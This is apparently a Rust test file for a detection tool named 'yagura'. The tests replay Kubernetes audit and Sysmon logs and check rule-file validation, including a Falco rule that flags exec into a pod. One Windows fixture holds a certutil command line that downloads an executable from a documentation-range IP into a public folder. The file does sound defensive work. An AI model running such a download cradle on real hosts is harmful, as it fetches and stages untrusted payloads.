//! `yagura replay` of audit and Windows logs, and rule files that a user brings.

use crate::harness::{DEADLINE, run, trial, yagura};
use anyhow::{Result, ensure};
use libtest_mimic::Trial;
use serde_json::{Value, json};
use std::fs;
use std::path::PathBuf;

pub(crate) fn trials() -> Vec<Trial> {
    vec![
        trial(
            "logs::audit_events_are_judged_and_damaged_ones_skipped",
            &[],
            audit,
        ),
        trial("logs::windows_events_are_judged", &[], windows),
        trial("rules::errors_are_named_and_change_nothing", &[], bad_rules),
        trial("rules::a_falco_file_decides_alone", &[], falco_file),
    ]
}

struct Folder(PathBuf);

impl Folder {
    fn new(name: &str) -> Result<Folder> {
        let path = std::env::temp_dir().join(format!("yagura-{name}-{}", std::process::id()));
        fs::create_dir_all(&path)?;
        Ok(Folder(path))
    }

    fn file(&self, name: &str, content: &str) -> Result<PathBuf> {
        let path = self.0.join(name);
        fs::write(&path, content)?;
        Ok(path)
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

fn exec_event(stage: &str) -> Value {
    json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": "a-1", "stage": stage,
        "requestURI": "/api/v1/namespaces/shop/pods/web-0/exec?command=sh&stdin=true&tty=true", "verb": "create",
        "user": {"username": "mallory", "groups": ["system:authenticated"]}, "sourceIPs": ["198.51.100.7"],
        "userAgent": "kubectl/v1.30.0", "responseStatus": {"code": 101},
        "objectRef": {"resource": "pods", "namespace": "shop", "name": "web-0", "subresource": "exec"},
        "requestReceivedTimestamp": "2026-01-02T03:04:05.000000Z", "stageTimestamp": "2026-01-02T03:04:05.100000Z"
    })
}

fn alerts(text: &str) -> Result<Vec<Value>> {
    text.lines()
        .map(|line| Ok(serde_json::from_str(line)?))
        .collect()
}

fn audit() -> Result<()> {
    let folder = Folder::new("audit")?;
    let broken = "{\"kind\": \"Event\", \"auditID\": \"a-2\", ";
    let text = format!(
        "{}\n{broken}\n{}\n",
        exec_event("ResponseStarted"),
        exec_event("ResponseComplete")
    );
    let file = folder.file("audit.jsonl", &text)?;
    let output = run(
        yagura().arg("replay").arg("--k8s-audit").arg(&file),
        DEADLINE,
    )?;
    ensure!(output.stderr.contains("record 2"), "{}", output.stderr);
    let output = output.expect(1)?;
    let alerts = alerts(&output.text())?;
    let found = alerts
        .iter()
        .find(|alert| alert["key"] == "k8s.api_suspicious_command");
    let Some(found) = found else {
        anyhow::bail!("no alert of the key: {alerts:#?}");
    };
    ensure!(
        found["detection"]["source"] == "k8s_audit" && found["process"].is_null(),
        "{found:#}"
    );
    ensure!(
        found["time"] == "2026-01-02T03:04:05.100000000Z",
        "{found:#}"
    );
    // The same input gives the same alerts.
    let again = run(
        yagura().arg("replay").arg("--k8s-audit").arg(&file),
        DEADLINE,
    )?;
    ensure!(again.stdout == output.stdout, "the second run differs");
    Ok(())
}

fn windows() -> Result<()> {
    let folder = Folder::new("windows")?;
    let event = json!({
        "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon",
        "Hostname": "ws-1", "@timestamp": "2026-01-02T03:04:05.000Z",
        "Image": "C:\\Windows\\System32\\certutil.exe", "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe"
    });
    let file = folder.file("windows.json", &format!("{event}\n"))?;
    let output = run(
        yagura().arg("replay").arg("--windows-json").arg(&file),
        DEADLINE,
    )?
    .expect(0)?;
    let alerts = alerts(&output.text())?;
    ensure!(
        alerts
            .iter()
            .any(|alert| alert["key"] == "proc.windows_download"),
        "{alerts:#?}"
    );
    Ok(())
}

fn bad_rules() -> Result<()> {
    let folder = Folder::new("rules")?;
    let text = "- rule: One\n  desc: d\n  condition: evt.type = opne and proc.nmae = x\n  output: o\n  priority: LOUD\n";
    let file = folder.file("rules.yaml", text)?;
    let output = run(
        yagura()
            .args(["rules", "check", "--output", "json"])
            .arg(&file),
        DEADLINE,
    )?
    .expect(2)?;
    let text = output.text();
    ensure!(
        text.contains("proc.nmae") && text.contains("proc.name") && text.contains("LOUD"),
        "{text}"
    );
    // Where rules are used, they are refused as a whole, before anything runs.
    let log = folder.file("audit.jsonl", "")?;
    let mut command = yagura();
    command
        .args(["replay", "--k8s-audit"])
        .arg(log)
        .arg("--rules")
        .arg(file);
    run(&mut command, DEADLINE)?.expect(2).map(drop)
}

fn falco_file() -> Result<()> {
    let folder = Folder::new("falco")?;
    let rules = folder.file(
        "falco.yaml",
        "- required_engine_version: 0.40.0\n- list: quiet_users\n  items: [admin]\n- macro: kevt\n  condition: (jevt.value[/stage] in (\"ResponseStarted\", \"ResponseComplete\"))\n- rule: Exec into a pod\n  desc: d\n  condition: kevt and ka.target.subresource = exec and not ka.user.name in (quiet_users)\n  output: Exec (user=%ka.user.name pod=%ka.target.name)\n  priority: NOTICE\n  source: k8s_audit\n  tags: [k8s]\n",
    )?;
    let log = folder.file(
        "audit.jsonl",
        &format!("{}\n", exec_event("ResponseStarted")),
    )?;
    let mut command = yagura();
    command
        .args(["replay", "--no-catalogue", "--falco-rules"])
        .arg(rules)
        .arg("--k8s-audit")
        .arg(log);
    let output = run(&mut command, DEADLINE)?.expect(0)?;
    let alerts = alerts(&output.text())?;
    ensure!(
        alerts.len() == 1 && alerts[0]["rule"] == "Exec into a pod",
        "{alerts:#?}"
    );
    ensure!(
        alerts[0]["detection"]["output"] == "Exec (user=mallory pod=web-0)",
        "{alerts:#?}"
    );
    Ok(())
}
